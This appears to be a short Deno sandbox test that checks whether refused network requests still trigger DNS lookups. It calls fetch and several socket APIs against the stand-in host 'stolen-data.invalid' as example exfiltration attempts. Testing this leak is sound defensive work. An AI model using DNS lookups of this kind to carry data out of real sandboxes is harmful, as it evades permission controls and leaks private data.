//= wants: to carry data out in the host names of requests that are refused
//  A refused request must be refused before its name is looked up: a system error tells that it was.
import net from "node:net";
const name = "stolen-data.invalid";
const ways: (() => Promise<unknown>)[] = [
  () => fetch(`http://${name}/`),
  () => Deno.connect({ hostname: name, port: 80 }),
  () => Deno.connectTls({ hostname: name, port: 443 }),
  () => new Promise((_, failed) => net.connect(80, name).on("error", failed)),
];
for (const [number, way] of ways.entries()) {
  try {
    await way();
  } catch (error) {
    const text = String(error) + String((error as { cause?: unknown }).cause ?? "");
    if (/dns|lookup|resolve|ENOTFOUND|EAI_AGAIN|not known/i.test(text) && !/NotCapable|Requires/.test(text)) {
      console.log("CAPTURED way", number, text.slice(0, 100));
    }
  }
}
